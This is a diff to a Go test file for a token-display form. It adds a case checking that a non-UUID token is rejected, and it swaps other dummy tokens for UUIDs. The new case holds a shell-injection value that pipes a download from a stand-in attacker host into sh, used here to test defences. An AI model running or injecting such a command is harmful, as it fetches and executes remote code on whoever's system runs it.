@@ -168,6 +168,12 @@ func TestReceiveMapsErrors(t *testing.T) {
 			answer:    Answer{Status: 200, Token: "two words\n"},
 			formError: en(tokendesk.KeyNoToken),
 		},
+		{
+			// A token that would break out of a snippet's quotes never shows.
+			name:      "200 with a token that is no UUID",
+			answer:    Answer{Status: 200, Token: "x'$(curl evil.example|sh)'"},
+			formError: en(tokendesk.KeyNoToken),
+		},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -223,7 +229,7 @@ func TestFailKeepsValues(t *testing.T) {
 
 func TestLateAnswersAreIgnored(t *testing.T) {
 	s := newState(tokendesk.EN)
-	s.receive(Answer{Status: 200, Token: "abc"})
+	s.receive(Answer{Status: 200, Token: "0b8f6c2e-6f3e-4d7a-9b1e-2f4a5c6d7e8f"})
 	s.fail(Offline)
 	if s.phase != Editing || s.token != "" || s.formError != "" {
 		t.Errorf("an answer with no request changed the state: %+v", s)
@@ -233,7 +239,7 @@ func TestLateAnswersAreIgnored(t *testing.T) {
 func revealed(t *testing.T) state {
 	t.Helper()
 	s := sending(t)
-	s.receive(Answer{Status: 200, Token: "tok-123"})
+	s.receive(Answer{Status: 200, Token: "0b8f6c2e-6f3e-4d7a-9b1e-2f4a5c6d7e8f"})
 	s.takeFocus()
 	return s
 }
